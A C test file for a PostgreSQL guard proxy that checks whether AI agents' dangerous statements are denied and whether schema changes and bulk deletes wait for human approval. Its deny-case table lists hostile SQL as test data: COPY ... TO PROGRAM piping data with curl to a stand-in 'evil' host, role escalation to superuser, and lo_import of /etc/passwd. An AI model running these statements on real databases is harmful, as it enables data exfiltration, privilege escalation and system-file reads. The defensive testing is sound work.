/* test-proxy-guard.c: the default policy through `vigilctl serve`.
 *
 * One PostgreSQL and one proxy with the built-in default policy. agent1 is an agent;
 * human1 and admin1 are added. Denied statements must come back as 42501 with the rule's
 * message and a hint while the protocol stays in step; held statements must wait for a
 * decision made with `vigilctl approvals`; no spelling may run an unbounded change
 * silently.
 *
 * Tests marked "PROXY BUG" fail because of the proxy, not the test: they stay, so the
 * failure stays visible until the proxy is fixed.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include <signal.h>
#include <string.h>
#include <sys/wait.h>

#include <glib/gstdio.h>
#include <json-glib/json-glib.h>

#include "vigil-approvals.h"
#include "vigil-store.h"
#include "vigil-test-proxy.h"

#define WAIT_MS          10000
#define REQUEST_WAIT_MS  10000

static const char * const psql_only[] = { "psql", NULL };

/* A private name, so that a shared PGconn cleanup added later cannot clash. */
typedef PGconn GuardConn;
G_DEFINE_AUTOPTR_CLEANUP_FUNC (GuardConn, PQfinish)

static char *human_token;
static char *admin_token;

/* ---------------------------------------------------------------- helpers */

static PGconn *
connect_as (VigilTestProxy *proxy,
            const char     *identity,
            const char     *token)
{
  g_autofree char *conninfo = NULL;
  PGconn *conn;

  if (token == NULL)
    {
      g_test_fail_printf ("no token for %s", identity);
      return NULL;
    }
  conninfo = vigil_test_proxy_identity_conninfo (proxy, identity, token, NULL);
  conn = PQconnectdb (conninfo);
  if (PQstatus (conn) != CONNECTION_OK)
    g_error ("connecting as %s failed: %s", identity, PQerrorMessage (conn));
  return conn;
}

static PGconn *
connect_human (VigilTestProxy *proxy)
{
  return connect_as (proxy, "human1", human_token);
}

static void
assert_select_one (PGconn *conn)
{
  g_autofree char *one = vigil_test_query_value (conn, "select 1");

  g_assert_cmpstr (one, ==, "1");
  g_assert_cmpint (PQtransactionStatus (conn), ==, PQTRANS_IDLE);
}

static void
assert_denied_result (PGresult   *res,
                      const char *sql,
                      const char *message_part)
{
  const char *message = PQresultErrorField (res, PG_DIAG_MESSAGE_PRIMARY);
  const char *hint = PQresultErrorField (res, PG_DIAG_MESSAGE_HINT);

  if (PQresultStatus (res) != PGRES_FATAL_ERROR ||
      g_strcmp0 (vigil_test_sqlstate (res), "42501") != 0)
    g_error ("'%s' was not denied: %s %s %s", sql, PQresStatus (PQresultStatus (res)),
             vigil_test_sqlstate (res), PQresultErrorMessage (res));
  g_assert_nonnull (message);
  if (message_part != NULL && strstr (message, message_part) == NULL)
    g_error ("'%s': message '%s' lacks '%s'", sql, message, message_part);
  /* The stand-in's own text never leaks. */
  g_assert_null (strstr (message, "vigil:"));
  g_assert_nonnull (hint);
  g_assert_cmpstr (hint, !=, "");
}

/* A vigilctl command against the proxy's data dir; stdout returned, exit status checked. */
static char *
vigilctl_ok (VigilTestProxy     *proxy,
             const char * const *args)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  int status = 0;

  g_assert_true (vigil_test_proxy_vigilctl (proxy, args, &out, &err, &status, &error));
  g_assert_no_error (error);
  if (!g_spawn_check_wait_status (status, NULL))
    g_error ("vigilctl %s %s: wait status %d: %s%s", args[0], args[1], status, out, err);
  /* vigil_test_run() gives NULL, not "", for an empty output. */
  return out != NULL ? g_steal_pointer (&out) : g_strdup ("");
}

/* `approvals list --json [--all]`, parsed. Element type JsonObject. */
static GPtrArray *
approvals_list (VigilTestProxy *proxy,
                gboolean        all)
{
  g_autofree char *out = vigilctl_ok (proxy, all ?
                                      (const char * const[]) { "approvals", "list", "--json", "--all", NULL } :
                                      (const char * const[]) { "approvals", "list", "--json", NULL });
  g_auto(GStrv) lines = g_strsplit (out, "\n", -1);
  GPtrArray *rows = g_ptr_array_new_with_free_func ((GDestroyNotify) json_object_unref);

  for (gsize i = 0; lines[i] != NULL; i++)
    {
      g_autoptr(JsonParser) parser = json_parser_new ();
      g_autoptr(GError) error = NULL;
      JsonNode *root;

      if (*g_strstrip (lines[i]) == '\0')
        continue;
      if (!json_parser_load_from_data (parser, lines[i], -1, &error))
        g_error ("approvals list --json: bad line '%s': %s", lines[i], error->message);
      root = json_parser_get_root (parser);
      g_assert_true (JSON_NODE_HOLDS_OBJECT (root));
      g_ptr_array_add (rows, json_object_ref (json_node_get_object (root)));
    }
  return rows;
}

static const char *
obj_str (JsonObject *o,
         const char *member)
{
  JsonNode *n = json_object_get_member (o, member);

  return n != NULL && JSON_NODE_HOLDS_VALUE (n) ? json_node_get_string (n) : NULL;
}

/* The pending request whose statement is exactly STATEMENT, waited for. */
static JsonObject *
wait_request (VigilTestProxy *proxy,
              const char     *statement,
              guint           timeout_ms)
{
  gint64 deadline = g_get_monotonic_time () + (gint64) timeout_ms * 1000;

  do
    {
      g_autoptr(GPtrArray) rows = approvals_list (proxy, FALSE);

      for (guint i = 0; i < rows->len; i++)
        if (g_strcmp0 (obj_str (rows->pdata[i], "statement"), statement) == 0)
          return json_object_ref (rows->pdata[i]);
      g_usleep (100 * 1000);
    }
  while (g_get_monotonic_time () < deadline);
  return NULL;
}

/* Any request (all statuses) with this id. */
static JsonObject *
get_request (VigilTestProxy *proxy,
             gint64          id)
{
  g_autoptr(GPtrArray) rows = approvals_list (proxy, TRUE);

  for (guint i = 0; i < rows->len; i++)
    if (json_object_get_int_member (rows->pdata[i], "id") == id)
      return json_object_ref (rows->pdata[i]);
  return NULL;
}

static guint
count_requests (VigilTestProxy *proxy,
                const char     *statement)
{
  g_autoptr(GPtrArray) rows = approvals_list (proxy, TRUE);
  guint n = 0;

  for (guint i = 0; i < rows->len; i++)
    if (g_strcmp0 (obj_str (rows->pdata[i], "statement"), statement) == 0)
      n++;
  return n;
}

/* Waits until request ID has STATUS; returns the request. */
static JsonObject *
wait_status (VigilTestProxy *proxy,
             gint64          id,
             const char     *status,
             guint           timeout_ms)
{
  gint64 deadline = g_get_monotonic_time () + (gint64) timeout_ms * 1000;
  JsonObject *o = NULL;

  do
    {
      g_clear_pointer (&o, json_object_unref);
      o = get_request (proxy, id);
      if (o != NULL && g_strcmp0 (obj_str (o, "status"), status) == 0)
        return o;
      g_usleep (100 * 1000);
    }
  while (g_get_monotonic_time () < deadline);
  g_error ("request #%" G_GINT64_FORMAT " did not become %s (it is %s)", id, status,
           o ? obj_str (o, "status") : "gone");
  return NULL;
}

static void
decide (VigilTestProxy *proxy,
        gint64          id,
        gboolean        approve,
        const char     *extra_flag,
        const char     *extra_value)
{
  g_autofree char *id_text = g_strdup_printf ("%" G_GINT64_FORMAT, id);
  g_autofree char *out = vigilctl_ok (proxy, (const char * const[]) {
                                        "approvals", approve ? "approve" : "deny", id_text,
                                        extra_flag, extra_value, NULL });

  g_assert_nonnull (strstr (out, approve ? "approved" : "denied"));
}

/* ---- psql in the background ---- */

typedef struct
{
  GSubprocess *proc;
  char        *dir;
  char        *out_path;
  char        *err_path;
  char        *pid;
  char        *out;
  char        *err;
  int          status;
} BgPsql;

static BgPsql *
bg_psql_start (const char *conninfo,
               const char *sql)
{
  g_autoptr(GSubprocessLauncher) launcher = g_subprocess_launcher_new (G_SUBPROCESS_FLAGS_NONE);
  g_autoptr(GError) error = NULL;
  BgPsql *bg = g_new0 (BgPsql, 1);

  bg->dir = g_dir_make_tmp ("vigil-guard-psql-XXXXXX", &error);
  g_assert_no_error (error);
  bg->out_path = g_build_filename (bg->dir, "out", NULL);
  bg->err_path = g_build_filename (bg->dir, "err", NULL);
  g_subprocess_launcher_set_stdout_file_path (launcher, bg->out_path);
  g_subprocess_launcher_set_stderr_file_path (launcher, bg->err_path);
  bg->proc = g_subprocess_launcher_spawn (launcher, &error, "psql", "-X", "-A", "-t",
                                          "-v", "ON_ERROR_STOP=1", "-v", "VERBOSITY=verbose",
                                          "-d", conninfo, "-c", sql, NULL);
  g_assert_no_error (error);
  bg->pid = g_strdup (g_subprocess_get_identifier (bg->proc));
  return bg;
}

/* Waits for psql to end; FALSE on timeout (then it is killed). */
static gboolean
bg_psql_wait (BgPsql *bg,
              guint   timeout_ms)
{
  gint64 deadline = g_get_monotonic_time () + (gint64) timeout_ms * 1000;
  gboolean ended;

  while (!(ended = g_subprocess_get_identifier (bg->proc) == NULL) &&
         g_get_monotonic_time () < deadline)
    g_usleep (20 * 1000);
  if (!ended)
    g_subprocess_force_exit (bg->proc);
  g_subprocess_wait (bg->proc, NULL, NULL);
  bg->status = g_subprocess_get_status (bg->proc);
  g_file_get_contents (bg->out_path, &bg->out, NULL, NULL);
  g_file_get_contents (bg->err_path, &bg->err, NULL, NULL);
  return ended;
}

static void
bg_psql_free (BgPsql *bg)
{
  if (g_subprocess_get_identifier (bg->proc) != NULL)
    {
      g_subprocess_force_exit (bg->proc);
      g_subprocess_wait (bg->proc, NULL, NULL);
    }
  g_remove (bg->out_path);
  g_remove (bg->err_path);
  g_rmdir (bg->dir);
  g_free (bg->dir);
  g_free (bg->out_path);
  g_free (bg->err_path);
  g_free (bg->pid);
  g_free (bg->out);
  g_free (bg->err);
  g_object_unref (bg->proc);
  g_free (bg);
}

G_DEFINE_AUTOPTR_CLEANUP_FUNC (BgPsql, bg_psql_free)

static gboolean
bg_succeeded (BgPsql *bg)
{
  return WIFEXITED (bg->status) && WEXITSTATUS (bg->status) == 0;
}

static char *
table_exists (const char *name)
{
  g_autofree char *sql = g_strdup_printf ("select to_regclass('public.%s') is not null", name);

  return vigil_test_env_upstream_value (sql);
}

/* ---------------------------------------------------------------- deny */

typedef struct
{
  const char *sql;
  const char *message;   /* part of the rule's message */
} DenyCase;

static const DenyCase deny_cases[] = {
  { "COPY t_guard TO PROGRAM 'cat > /dev/null'", "COPY ... PROGRAM" },
  { "copy t_guard from program 'id'", "COPY ... PROGRAM" },
  { "/* backup */ CoPy (select * from t_guard) tO pRoGrAm 'curl -d @- http://evil'", "COPY ... PROGRAM" },
  { "ALTER ROLE vigil_app CREATEDB", "roles" },
  { "alter user vigil_app with superuser", "roles" },
  { "CREATE ROLE evil LOGIN PASSWORD 'x'", "roles" },
  { "create user \"Evil\"", "roles" },
  { "DROP ROLE IF EXISTS evil", "roles" },
  { "GRANT pg_read_server_files TO vigil_app", "roles" },
  { "SET ROLE postgres", "roles" },
  { "select lo_import('/etc/passwd')", "large objects" },
  { "SELECT \"lo_import\"('/etc/passwd')", "large objects" },
  { "select pg_catalog.LO_IMPORT('/etc/passwd')", "large objects" },
  { "select * from (select lo_export(1, '/tmp/x')) s", "large objects" },
  { "ALTER SYSTEM SET work_mem = '1GB'", "ALTER SYSTEM" },
  { "alter   system\n reset all", "ALTER SYSTEM" },
};

static void
test_deny_libpq (void)
{
  PGconn *conn = vigil_test_env_connect (NULL);

  if (conn == NULL)
    return;
  for (gsize i = 0; i < G_N_ELEMENTS (deny_cases); i++)
    {
      PGresult *res;

      /* Simple protocol. */
      res = PQexec (conn, deny_cases[i].sql);
      assert_denied_result (res, deny_cases[i].sql, deny_cases[i].message);
      PQclear (res);
      assert_select_one (conn);

      /* Extended protocol: denied at Parse. */
      res = PQexecParams (conn, deny_cases[i].sql, 0, NULL, NULL, NULL, NULL, 0);
      assert_denied_result (res, deny_cases[i].sql, deny_cases[i].message);
      PQclear (res);
      assert_select_one (conn);
    }
  PQfinish (conn);
}

static void
test_deny_psql (void)
{
  VigilTestProxy *proxy = vigil_test_env_proxy ();
  g_autofree char *conninfo = NULL;

  if (proxy == NULL || !vigil_test_require_programs (psql_only))
    return;
  conninfo = vigil_test_proxy_conninfo (proxy, NULL);
  for (gsize i = 0; i < G_N_ELEMENTS (deny_cases); i++)
    {
      g_autoptr(GError) error = NULL;
      g_autofree char *out = NULL;
      g_autofree char *err = NULL;
      int status = 0;

      /* Two -c on one connection: the denial, then a query that must still work. */
      vigil_test_run ((const char * const[]) { "psql", "-X", "-A", "-t", "-v", "VERBOSITY=verbose",
                                               "-d", conninfo, "-c", deny_cases[i].sql,
                                               "-c", "select 'still here'", NULL },
                      NULL, &out, &err, &status, &error);
      g_assert_no_error (error);
      if (err == NULL)
        err = g_strdup ("");
      if (strstr (err, "ERROR:  42501") == NULL || strstr (err, deny_cases[i].message) == NULL ||
          strstr (err, "HINT:") == NULL)
        g_error ("psql -c \"%s\": expected 42501 with '%s' and a hint; stderr:\n%s",
                 deny_cases[i].sql, deny_cases[i].message, err);
      g_assert_cmpstr (out, ==, "still here\n");
    }
}

/* ---------------------------------------------------------------- review round trips */

static void
test_review_approve (void)
{
  VigilTestProxy *proxy = vigil_test_env_proxy ();
  g_autoptr(GuardConn) human = NULL;
  g_autofree char *conninfo = NULL;
  g_autofree char *exists = NULL;
  g_autofree char *notice = NULL;
  g_autoptr(BgPsql) bg = NULL;
  g_autoptr(JsonObject) req = NULL;
  g_autoptr(JsonObject) done = NULL;
  JsonObject *process;
  gint64 id;

  if (proxy == NULL || !vigil_test_require_programs (psql_only))
    return;
  human = connect_human (proxy);
  vigil_test_exec_ok (human, "create table t_drop (a int)");
  conninfo = vigil_test_proxy_conninfo (proxy, NULL);
  bg = bg_psql_start (conninfo, "DROP TABLE t_drop");

  req = wait_request (proxy, "DROP TABLE t_drop", REQUEST_WAIT_MS);
  if (req == NULL)
    g_error ("no approval request appeared for DROP TABLE t_drop");
  id = json_object_get_int_member (req, "id");
  g_assert_cmpint (id, >, 0);
  g_assert_cmpstr (obj_str (req, "identity"), ==, VIGIL_TEST_PROXY_IDENTITY);
  g_assert_cmpstr (obj_str (req, "connection"), ==, VIGIL_TEST_PG_APP_DB);
  g_assert_cmpstr (obj_str (req, "status"), ==, "pending");
  g_assert_nonnull (strstr (obj_str (req, "class"), "drop"));
  g_assert_nonnull (obj_str (req, "relations"));
  g_assert_nonnull (strstr (obj_str (req, "relations"), "t_drop"));
  g_assert_cmpstr (obj_str (req, "reason"), ==, "changes the schema");
  g_assert_cmpstr (obj_str (req, "rule"), ==, "agents-review-schema-changes");
  process = json_object_get_object_member (req, "process");
  g_assert_nonnull (process);
  g_assert_cmpint (json_object_get_int_member (process, "pid"), ==,
                   g_ascii_strtoll (bg->pid, NULL, 10));
  g_assert_true (g_str_has_suffix (obj_str (process, "exe"), "psql"));

  /* Still waiting, and the table is still there. */
  g_usleep (300 * 1000);
  g_assert_nonnull (g_subprocess_get_identifier (bg->proc));
  exists = table_exists ("t_drop");
  g_assert_cmpstr (exists, ==, "t");

  decide (proxy, id, TRUE, NULL, NULL);
  if (!bg_psql_wait (bg, WAIT_MS))
    g_error ("psql did not finish within %d ms after the approval", WAIT_MS);
  if (!bg_succeeded (bg))
    g_error ("approved psql failed (wait status %d): %s%s", bg->status, bg->out, bg->err);
  notice = g_strdup_printf ("held for approval #%" G_GINT64_FORMAT ": changes the schema", id);
  if (strstr (bg->err, notice) == NULL)
    g_error ("psql's stderr lacks the notice '%s':\n%s", notice, bg->err);
  g_clear_pointer (&exists, g_free);
  exists = table_exists ("t_drop");
  g_assert_cmpstr (exists, ==, "f");

  done = get_request (proxy, id);
  g_assert_nonnull (done);
  g_assert_cmpstr (obj_str (done, "status"), ==, "approved");
  g_assert_true (g_str_has_prefix (obj_str (done, "decided_by"), "os:"));
}

static void
test_review_deny (void)
{
  VigilTestProxy *proxy = vigil_test_env_proxy ();
  g_autoptr(GuardConn) human = NULL;
  g_autofree char *conninfo = NULL;
  g_autofree char *exists = NULL;
  g_autoptr(BgPsql) bg = NULL;
  g_autoptr(JsonObject) req = NULL;
  g_autoptr(JsonObject) done = NULL;
  const char *reason = "use a migration, not an agent";
  gint64 id;

  if (proxy == NULL || !vigil_test_require_programs (psql_only))
    return;
  human = connect_human (proxy);
  vigil_test_exec_ok (human, "create table t_drop2 (a int)");
  conninfo = vigil_test_proxy_conninfo (proxy, NULL);
  bg = bg_psql_start (conninfo, "DROP TABLE t_drop2");
  req = wait_request (proxy, "DROP TABLE t_drop2", REQUEST_WAIT_MS);
  g_assert_nonnull (req);
  id = json_object_get_int_member (req, "id");
  decide (proxy, id, FALSE, "--reason", reason);
  if (!bg_psql_wait (bg, WAIT_MS))
    g_error ("psql did not finish within %d ms after the denial", WAIT_MS);
  g_assert_false (bg_succeeded (bg));
  if (strstr (bg->err, "ERROR:  42501") == NULL || strstr (bg->err, reason) == NULL)
    g_error ("denied psql: expected 42501 with the reason; stderr:\n%s", bg->err);
  exists = table_exists ("t_drop2");
  g_assert_cmpstr (exists, ==, "t");
  done = get_request (proxy, id);
  g_assert_cmpstr (obj_str (done, "status"), ==, "denied");
  g_assert_cmpstr (obj_str (done, "decision_reason"), ==, reason);
}

static void
test_review_timeout (void)
{
  VigilTestPg *pg = vigil_test_env_pg ();
  VigilTestProxy *proxy = vigil_test_env_proxy ();
  VigilTestProxy *quick = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(GuardConn) human = NULL;
  g_autofree char *conninfo = NULL;
  g_autofree char *exists = NULL;
  g_autoptr(BgPsql) bg = NULL;
  g_autoptr(JsonObject) req = NULL;
  g_autoptr(JsonObject) done = NULL;
  gint64 id, held_at, waited_ms;

  if (proxy == NULL || !vigil_test_require_programs (psql_only))
    return;
  human = connect_human (proxy);
  vigil_test_exec_ok (human, "create table t_drop3 (a int)");
  quick = vigil_test_proxy_start (pg, &(VigilTestProxyOptions) {
                                    .policy_json = VIGIL_TEST_PROXY_DEFAULT_POLICY,
                                    .approval_timeout = 2 }, &error);
  g_assert_no_error (error);
  conninfo = vigil_test_proxy_conninfo (quick, NULL);
  bg = bg_psql_start (conninfo, "DROP TABLE t_drop3");
  req = wait_request (quick, "DROP TABLE t_drop3", REQUEST_WAIT_MS);
  held_at = g_get_monotonic_time ();
  g_assert_nonnull (req);
  id = json_object_get_int_member (req, "id");
  if (!bg_psql_wait (bg, 10000))
    g_error ("a held statement with --approval-timeout 2 still waits after 10 s");
  waited_ms = (g_get_monotonic_time () - held_at) / 1000;
  g_test_message ("held statement ended %" G_GINT64_FORMAT " ms after the request showed", waited_ms);
  g_assert_cmpint (waited_ms, <, 6000);
  g_assert_false (bg_succeeded (bg));
  if (strstr (bg->err, "ERROR:  42501") == NULL || strstr (bg->err, "timed out") == NULL)
    g_error ("timed-out psql: expected 42501 'timed out'; stderr:\n%s", bg->err);
  exists = table_exists ("t_drop3");
  g_assert_cmpstr (exists, ==, "t");
  done = wait_status (quick, id, "expired", 3000);
  g_assert_nonnull (done);
  vigil_test_proxy_stop (quick);
}

static void
test_review_withdrawn (void)
{
  VigilTestProxy *proxy = vigil_test_env_proxy ();
  g_autoptr(GuardConn) human = NULL;
  g_autofree char *conninfo = NULL;
  g_autofree char *exists = NULL;
  g_autoptr(BgPsql) bg = NULL;
  g_autoptr(JsonObject) req = NULL;
  g_autoptr(JsonObject) done = NULL;
  gint64 id;

  if (proxy == NULL || !vigil_test_require_programs (psql_only))
    return;
  human = connect_human (proxy);
  vigil_test_exec_ok (human, "create table t_drop4 (a int)");
  conninfo = vigil_test_proxy_conninfo (proxy, NULL);
  bg = bg_psql_start (conninfo, "DROP TABLE t_drop4");
  req = wait_request (proxy, "DROP TABLE t_drop4", REQUEST_WAIT_MS);
  g_assert_nonnull (req);
  id = json_object_get_int_member (req, "id");
  g_subprocess_send_signal (bg->proc, SIGKILL);
  bg_psql_wait (bg, WAIT_MS);
  done = wait_status (proxy, id, "withdrawn", 5000);
  g_assert_nonnull (done);
  /* A late approval changes nothing: it is no longer pending. */
  {
    g_autofree char *id_text = g_strdup_printf ("%" G_GINT64_FORMAT, id);
    int status = 0;

    vigil_test_proxy_vigilctl (proxy, (const char * const[]) { "approvals", "approve", id_text, NULL },
                               NULL, NULL, &status, NULL);
    g_assert_false (g_spawn_check_wait_status (status, NULL));
  }
  exists = table_exists ("t_drop4");
  g_assert_cmpstr (exists, ==, "t");
}

/* ---- libpq, asynchronously: the notice and the result of a held statement ---- */

static void
collect_notice (void           *arg,
                const PGresult *res)
{
  GPtrArray *notices = arg;

  g_ptr_array_add (notices, g_strdup (PQresultErrorField (res, PG_DIAG_MESSAGE_PRIMARY)));
}

static PGresult *
last_result (PGconn *conn)
{
  PGresult *last = NULL, *res;

  for (;;)
    {
      while (PQisBusy (conn))
        if (!vigil_test_wait_input (conn, WAIT_MS))
          g_error ("no result within %d ms: %s", WAIT_MS, PQerrorMessage (conn));
      res = PQgetResult (conn);
      if (res == NULL)
        return last;
      if (last != NULL && PQresultStatus (last) == PGRES_FATAL_ERROR)
        PQclear (res);
      else
        {
          PQclear (last);
          last = res;
        }
    }
}

/* Sends SQL (simple or extended) and waits: either a result comes (returned, *held_id 0)
 * or a request appears, which is then decided (approve/deny) and the result returned. */
static PGresult *
send_and_settle (VigilTestProxy *proxy,
                 PGconn         *conn,
                 const char     *sql,
                 gboolean        extended,
                 gboolean        approve,
                 const char     *approve_for,
                 gint64         *held_id)
{
  gint64 deadline = g_get_monotonic_time () + (gint64) REQUEST_WAIT_MS * 1000;

  *held_id = 0;
  if (extended)
    g_assert_cmpint (PQsendQueryParams (conn, sql, 0, NULL, NULL, NULL, NULL, 0), ==, 1);
  else
    g_assert_cmpint (PQsendQuery (conn, sql), ==, 1);
  for (;;)
    {
      g_autoptr(GPtrArray) rows = NULL;

      vigil_test_wait_input (conn, 100);
      if (!PQisBusy (conn))
        return last_result (conn);
      rows = approvals_list (proxy, FALSE);
      for (guint i = 0; i < rows->len; i++)
        if (g_strcmp0 (obj_str (rows->pdata[i], "statement"), sql) == 0)
          {
            *held_id = json_object_get_int_member (rows->pdata[i], "id");
            if (approve)
              decide (proxy, *held_id, TRUE, approve_for ? "--for" : NULL, approve_for);
            else
              decide (proxy, *held_id, FALSE, "--reason", "guard test says no");
            return last_result (conn);
          }
      if (g_get_monotonic_time () > deadline)
        g_error ("'%s': neither a result nor an approval request within %d ms", sql,
                 REQUEST_WAIT_MS);
    }
}

static void
test_review_approve_for_minutes (void)
{
  VigilTestProxy *proxy = vigil_test_env_proxy ();
  g_autoptr(GuardConn) human = NULL;
  g_autoptr(GPtrArray) notices = g_ptr_array_new_with_free_func (g_free);
  g_autofree char *expect_notice = NULL;
  g_autofree char *left = NULL;
  PGconn *conn;
  PGresult *res;
  gint64 id, again_id, t0;
  const char *sql = "DELETE FROM t_for";

  if (proxy == NULL || (conn = vigil_test_env_connect (NULL)) == NULL)
    return;
  PQsetNoticeReceiver (conn, collect_notice, notices);
  human = connect_human (proxy);
  vigil_test_exec_ok (human, "create table t_for (a int); insert into t_for values (1), (2)");

  res = send_and_settle (proxy, conn, sql, FALSE, TRUE, "5", &id);
  g_assert_cmpint (id, >, 0);
  g_assert_cmpint (PQresultStatus (res), ==, PGRES_COMMAND_OK);
  g_assert_cmpstr (PQcmdTuples (res), ==, "2");
  PQclear (res);
  /* The notice carries the planner's estimate of the rows (EXPLAIN, off the engine thread). */
  expect_notice = g_strdup_printf ("held for approval #%" G_GINT64_FORMAT
                                   ": changes every row of a table (the planner expects ", id);
  g_assert_cmpuint (notices->len, ==, 1);
  g_assert_true (g_str_has_prefix (notices->pdata[0], expect_notice));
  g_assert_true (g_str_has_suffix (notices->pdata[0], " rows)"));

  /* The same fingerprint runs again at once, without a new hold, for this identity. */
  vigil_test_exec_ok (human, "insert into t_for values (3)");
  t0 = g_get_monotonic_time ();
  res = send_and_settle (proxy, conn, sql, FALSE, FALSE, NULL, &again_id);
  g_assert_cmpint (again_id, ==, 0);
  g_assert_cmpint (PQresultStatus (res), ==, PGRES_COMMAND_OK);
  g_assert_cmpstr (PQcmdTuples (res), ==, "1");
  PQclear (res);
  g_assert_cmpint (g_get_monotonic_time () - t0, <, 2 * G_USEC_PER_SEC);
  g_assert_cmpuint (notices->len, ==, 1);
  g_assert_cmpuint (count_requests (proxy, sql), ==, 1);
  /* Also from a new session of the same identity. */
  PQfinish (conn);
  conn = vigil_test_env_connect (NULL);
  vigil_test_exec_ok (human, "insert into t_for values (4)");
  res = send_and_settle (proxy, conn, sql, FALSE, FALSE, NULL, &again_id);
  g_assert_cmpint (again_id, ==, 0);
  g_assert_cmpint (PQresultStatus (res), ==, PGRES_COMMAND_OK);
  PQclear (res);
  left = vigil_test_env_upstream_value ("select count(*) from t_for");
  g_assert_cmpstr (left, ==, "0");
  PQfinish (conn);
}

static void
test_review_self_approval (void)
{
  VigilTestProxy *proxy = vigil_test_env_proxy ();
  g_autoptr(GError) error = NULL;
  g_autoptr(VigilStore) store = NULL;
  g_autoptr(VigilApprovals) queue = NULL;
  g_autoptr(JsonObject) req = NULL;
  g_autoptr(JsonObject) after = NULL;
  g_autoptr(GuardConn) human = NULL;
  PGconn *conn;
  PGresult *res;
  gint64 id;
  const char *sql = "TRUNCATE t_self";

  if (proxy == NULL || (conn = vigil_test_env_connect (NULL)) == NULL)
    return;
  human = connect_human (proxy);
  vigil_test_exec_ok (human, "create table t_self (a int); insert into t_self values (1)");
  g_assert_cmpint (PQsendQuery (conn, sql), ==, 1);
  req = wait_request (proxy, sql, REQUEST_WAIT_MS);
  g_assert_nonnull (req);
  id = json_object_get_int_member (req, "id");

  store = vigil_store_open (vigil_test_proxy_get_data_dir (proxy), &error);
  g_assert_no_error (error);
  queue = vigil_approvals_open (vigil_test_proxy_get_data_dir (proxy), &error);
  g_assert_no_error (error);
  g_assert_false (vigil_approvals_decide (queue, id, TRUE, VIGIL_TEST_PROXY_IDENTITY, NULL, 0,
                                          &error));
  g_assert_nonnull (error);
  g_test_message ("self-approval refused: %s", error->message);
  g_clear_error (&error);
  after = get_request (proxy, id);
  g_assert_cmpstr (obj_str (after, "status"), ==, "pending");

  /* Someone else may decide: deny it, the session goes on. */
  g_assert_true (vigil_approvals_decide (queue, id, FALSE, "human1", "not yours to approve", 0,
                                         &error));
  g_assert_no_error (error);
  res = last_result (conn);
  assert_denied_result (res, sql, "not yours to approve");
  PQclear (res);
  assert_select_one (conn);
  {
    g_autofree char *n = vigil_test_env_upstream_value ("select count(*) from t_self");
    g_assert_cmpstr (n, ==, "1");
  }
  PQfinish (conn);
}

/* ---------------------------------------------------------------- protocol in step */

static void
test_deny_in_transaction (void)
{
  PGconn *conn = vigil_test_env_connect (NULL);
  g_autoptr(GuardConn) human = NULL;
  g_autofree char *n = NULL;
  PGresult *res;

  if (conn == NULL)
    return;
  human = connect_human (vigil_test_env_proxy ());
  vigil_test_exec_ok (human, "create table t_tx (a int)");
  vigil_test_exec_ok (conn, "BEGIN");
  vigil_test_exec_ok (conn, "insert into t_tx values (1)");
  res = PQexec (conn, "ALTER ROLE vigil_app CREATEDB");
  assert_denied_result (res, "ALTER ROLE", "roles");
  PQclear (res);
  g_assert_cmpint (PQtransactionStatus (conn), ==, PQTRANS_INERROR);
  res = PQexec (conn, "select 1");
  g_assert_cmpint (PQresultStatus (res), ==, PGRES_FATAL_ERROR);
  g_assert_cmpstr (vigil_test_sqlstate (res), ==, "25P02");
  PQclear (res);
  vigil_test_exec_ok (conn, "ROLLBACK");
  assert_select_one (conn);
  n = vigil_test_env_upstream_value ("select count(*) from t_tx");
  g_assert_cmpstr (n, ==, "0");

  /* Extended protocol inside a transaction, too. */
  vigil_test_exec_ok (conn, "BEGIN");
  res = PQexecParams (conn, "select lo_import($1)", 1, NULL, (const char *[]) { "/etc/passwd" },
                      NULL, NULL, 0);
  assert_denied_result (res, "lo_import", "large objects");
  PQclear (res);
  g_assert_cmpint (PQtransactionStatus (conn), ==, PQTRANS_INERROR);
  vigil_test_exec_ok (conn, "ROLLBACK");
  assert_select_one (conn);
  PQfinish (conn);
}

static PGresult *
pipeline_next (PGconn *conn)
{
  while (PQisBusy (conn))
    g_assert_true (vigil_test_wait_input (conn, WAIT_MS));
  return PQgetResult (conn);
}

static void
expect_pipeline (PGconn         *conn,
                 ExecStatusType  status,
                 const char     *value,
                 const char     *sqlstate)
{
  PGresult *res = pipeline_next (conn);

  g_assert_nonnull (res);
  if (PQresultStatus (res) != status)
    g_error ("pipeline: expected %s, got %s: %s", PQresStatus (status),
             PQresStatus (PQresultStatus (res)), PQresultErrorMessage (res));
  if (value != NULL)
    g_assert_cmpstr (PQgetvalue (res, 0, 0), ==, value);
  if (sqlstate != NULL)
    g_assert_cmpstr (vigil_test_sqlstate (res), ==, sqlstate);
  PQclear (res);
  if (status != PGRES_PIPELINE_SYNC)
    g_assert_null (pipeline_next (conn));
}

static void
test_deny_in_pipeline (void)
{
  PGconn *conn = vigil_test_env_connect (NULL);

  if (conn == NULL)
    return;
  g_assert_cmpint (PQenterPipelineMode (conn), ==, 1);
  g_assert_cmpint (PQsendQueryParams (conn, "select 1", 0, NULL, NULL, NULL, NULL, 0), ==, 1);
  g_assert_cmpint (PQsendQueryParams (conn, "alter role vigil_app createrole", 0, NULL, NULL, NULL,
                                      NULL, 0), ==, 1);
  g_assert_cmpint (PQsendQueryParams (conn, "select 2", 0, NULL, NULL, NULL, NULL, 0), ==, 1);
  g_assert_cmpint (PQpipelineSync (conn), ==, 1);
  g_assert_cmpint (PQsendQueryParams (conn, "select 3", 0, NULL, NULL, NULL, NULL, 0), ==, 1);
  g_assert_cmpint (PQpipelineSync (conn), ==, 1);
  g_assert_cmpint (PQflush (conn), ==, 0);

  expect_pipeline (conn, PGRES_TUPLES_OK, "1", NULL);
  expect_pipeline (conn, PGRES_FATAL_ERROR, NULL, "42501");
  expect_pipeline (conn, PGRES_PIPELINE_ABORTED, NULL, NULL);
  expect_pipeline (conn, PGRES_PIPELINE_SYNC, NULL, NULL);
  expect_pipeline (conn, PGRES_TUPLES_OK, "3", NULL);
  expect_pipeline (conn, PGRES_PIPELINE_SYNC, NULL, NULL);

  /* The next pipeline works. */
  g_assert_cmpint (PQsendQueryParams (conn, "select 4", 0, NULL, NULL, NULL, NULL, 0), ==, 1);
  g_assert_cmpint (PQpipelineSync (conn), ==, 1);
  expect_pipeline (conn, PGRES_TUPLES_OK, "4", NULL);
  expect_pipeline (conn, PGRES_PIPELINE_SYNC, NULL, NULL);
